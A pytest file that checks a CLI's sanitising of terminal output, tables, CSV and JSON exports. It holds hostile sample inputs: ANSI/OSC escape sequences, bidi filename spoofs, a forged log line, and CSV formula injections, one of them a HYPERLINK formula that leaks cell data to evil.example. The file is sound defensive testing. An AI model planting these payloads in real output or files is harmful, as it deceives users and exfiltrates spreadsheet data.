"""Escape sequences, forged lines and formulas in titles, keys, names and messages: what is printed is text."""

import csv
import io
import json
import os
import pty
import subprocess
import sys
import threading
from datetime import date
from pathlib import Path

import click
import polars as pl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

from pipeline_assets.commands.rows import write_rows
from pipeline_assets.runtime.progress import track
from pipeline_assets.runtime.terminal import Terminal, VisibleCommands
from pipeline_assets.runtime.visible import cell, one_line, visible
from resources.lake.lake import Lake
from resources.settings import CONNECTION, Settings, plain

DAY = date(2026, 1, 1)
EVIL = [
    "\x1b]0;owned\x07",  # the window's title
    "\x1b[2J\x1b[H",  # a clean screen
    "\x1b[8mhidden\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mC1",
    "\x90q\x9c",
    "over\rwritten",
    "gone\b\b\b\b",
    "\x7f\x00\x0e",
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "one\u2028two\u2029three\x85four",
    "\ufeffmark\u200b",
    "tag\U000e0041",
]
CONTROLS = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0), *range(0x2028, 0x202F), *range(0x2066, 0x206A))} - {
    "\n",
    "\t",
}


def is_harmless(text: str) -> bool:
    return not CONTROLS & set(text) and not any(0xE0000 <= ord(char) < 0xE0080 for char in text)


@given(st.text())
def test_no_text_is_shown_with_a_control_character_and_what_has_none_is_shown_as_it_is(text: str) -> None:
    assert is_harmless(visible(text))
    assert "\n" not in one_line(text)
    if text.isprintable():
        assert visible(text) == one_line(text) == text


@given(st.text())
def test_json_stays_the_same_json(text: str) -> None:
    for said in (json.dumps({"title": text}), json.dumps({"title": text}, ensure_ascii=False)):
        assert json.loads(visible(said)) == {"title": text}


@given(st.binary())
def test_a_name_that_is_no_text_is_printed_and_stops_nothing(name: bytes) -> None:
    visible(os.fsdecode(name)).encode()


@click.group(cls=VisibleCommands)
def commands() -> None:
    """Commands that print a text in every way there is."""


@commands.command()
@click.argument("text")
def say(text: str) -> None:
    """By click, print, stderr, rich: as a string, in a table, in a bar's description."""
    click.echo(text)
    click.secho(text)
    print(text)
    sys.stderr.write(text)
    grid = Table(text, title=text)
    grid.add_row(text)
    terminal = Terminal()
    terminal.print(text, grid)
    terminal.print(f"[b]{text}[/b]")
    assert list(track([1], 1, text, text, terminal.print)) == [1]


@commands.command()
@click.argument("text")
def fail(text: str) -> None:
    """End by an error that names it."""
    raise click.ClickException(text)


@commands.command()
@click.argument("text")
def ask(text: str) -> None:
    """Ask about it."""
    click.confirm(text)


@commands.command()
@click.argument("text")
def burst(text: str) -> None:
    """End by an error that nobody expected."""
    raise RuntimeError(text)


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("command", ["say", "fail", "ask"])
def test_what_a_command_prints_is_text(command: str, text: str) -> None:
    done = CliRunner().invoke(commands, [command, "--", text], input="n\n")
    assert done.output.strip()
    assert is_harmless(done.output)


def on_a_terminal(code: str, *arguments: str) -> str:
    """What a program writes on a terminal of its own, raw."""
    ours, its = pty.openpty()
    parts: list[bytes] = []

    def read() -> None:
        try:
            while part := os.read(ours, 65_536):
                parts.append(part)
        except OSError:
            return

    environment = os.environ | {"TERM": "xterm-256color", "PYTHONPATH": str(Path(__file__).parent)}
    with subprocess.Popen(
        [sys.executable, "-c", code, *arguments], stdin=its, stdout=its, stderr=its, env=environment
    ) as process:
        os.close(its)
        reader = threading.Thread(target=read)
        reader.start()
        process.wait()
        reader.join()
    os.close(ours)
    return b"".join(parts).decode()


def test_on_a_terminal_colours_and_the_bar_are_ours_alone() -> None:
    code = (
        "import sys, logging; from rich.text import Text\n"
        "from pipeline_assets.runtime.terminal import Terminal, make_output_visible; from pipeline_assets.runtime.progress import track\n"
        "make_output_visible(); evil = sys.argv[1]; logging.basicConfig()\n"
        "Terminal().print(Text('Set aside:', 'yellow'), evil); logging.error(evil); print(evil)\n"
        "list(track(iter([1, 2]), 2, evil, evil, print))\n"
        "raise RuntimeError(evil)\n"
    )
    said = on_a_terminal(code, "\x1b]0;owned\x07\x1b[5m")
    assert "\x1b[33mSet aside:\x1b[0m" in said, "colours stay"
    assert "━" in said, "the bar stays"
    assert "\x1b]0;" not in said and "\x1b[5m" not in said and "\x07" not in said
    assert said.count("\\u001b]0;owned\\u0007") >= 4, "console, log, print and traceback name it; the bar has less room"


def test_brackets_are_no_markup() -> None:
    file = io.StringIO()
    Terminal(file=file, force_terminal=True).print("[link=http://evil.example]a[/link] [/red] [bold]b :smile:")
    assert file.getvalue() == "[link=http://evil.example]a[/link] [/red] [bold]b :smile:\n"


def test_what_the_parts_of_the_ui_write_is_text_too(capfd: pytest.CaptureFixture[str]) -> None:
    code = (
        "import os, sys; from pathlib import Path; from resources.servers.supervision import Program, end\n"
        "from pipeline_assets.runtime.terminal import make_output_visible; make_output_visible()\n"
        "writes = 'import os, sys; os.write(1, sys.argv[1].encode()); os.write(2, sys.argv[1].encode() + bytes([10, 255, 10]))'\n"
        "part = Program('part', [sys.executable, '-c', writes, sys.argv[1]], Path('/'), dict(os.environ)); part.start()\n"
        "part.process.wait(); [thread.join(10) for thread in __import__('threading').enumerate() if thread.name == 'part']\n"
    )
    root = Path(__file__).parents[2]
    done = subprocess.run([sys.executable, "-c", code, EVIL[0]], cwd=root, capture_output=True, check=True)
    assert done.stderr.decode() == visible(EVIL[0]) * 2 + "\n\\xff\n"


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """A lake in a folder whose table `photo_metadata` holds the titles, and its connection in the environment."""
    found = Settings(
        home=tmp_path / "home",
        database_url=f"sqlite:///{tmp_path / 'app.db'}",
        lake_url=f"file://{tmp_path / 'lake'}",
        uploads_url=f"file://{tmp_path / 'uploads'}",
    )
    for name in CONNECTION:
        monkeypatch.setenv(f"DARKROOM_{name.upper()}", plain(getattr(found, name)))
    titles = [
        *EVIL,
        '=HYPERLINK("http://evil.example?"&A1,"open")',
        "+1",
        "-1",
        "@sum(a1)",
        "\t=1+1",
        "a\nDone: all is well",
        "",
        "Käse 👩‍🍳",
    ]
    rows = pl.DataFrame(
        {
            "day": [DAY] * len(titles),
            "photo_id": range(len(titles)),
            "change": [-1.5] * len(titles),
            "title": titles,
            "tags": [[title] for title in titles],
        }
    )
    Lake(url=found.lake_url).commit("photo_metadata", [DAY], rows)
    return found


def shown(settings: Settings, kind: str, **options: bool) -> str:
    @commands.command("show")
    def show() -> None:
        write_rows(settings, "photo_metadata", None, kind, None, 100, **options)

    done = CliRunner().invoke(commands, ["show"], catch_exceptions=False)
    return done.output


def titles_of(settings: Settings) -> list[str]:
    return Lake(url=settings.lake_url).scan("photo_metadata").sort("photo_id").collect()["title"].to_list()


def test_a_table_shows_titles_as_text_in_one_line_each(settings: Settings) -> None:
    said = shown(settings, "table")
    assert is_harmless(said)
    assert "\\u001b]0;owned" in said
    assert not any(line.startswith("Done") for line in said.splitlines())
    assert "Käse 👩‍🍳" in said


def test_csv_for_people_runs_nothing_and_moves_nothing(settings: Settings) -> None:
    said = shown(settings, "csv")
    assert is_harmless(said)
    rows = list(csv.DictReader(io.StringIO(said)))
    assert not any(row["title"].startswith(("=", "+", "-", "@", "\t")) for row in rows)
    assert {row["change"] for row in rows} == {"-1.5"}, "numbers are no formulas"
    originals = titles_of(settings)
    assert [row["title"] for row in sorted(rows, key=lambda row: int(row["photo_id"]))] == [
        cell(title) for title in originals
    ]


def test_csv_for_a_program_keeps_values_as_they_are(settings: Settings) -> None:
    said = shown(settings, "csv", exact=True)
    rows = sorted(csv.DictReader(io.StringIO(said, newline="")), key=lambda row: int(row["photo_id"]))
    assert [row["title"] for row in rows] == titles_of(settings)


def test_json_has_the_values_themselves(settings: Settings) -> None:
    said = shown(settings, "json")
    assert is_harmless(said)
    rows = sorted(map(json.loads, said.splitlines()), key=lambda row: row["photo_id"])
    assert [row["title"] for row in rows] == titles_of(settings)
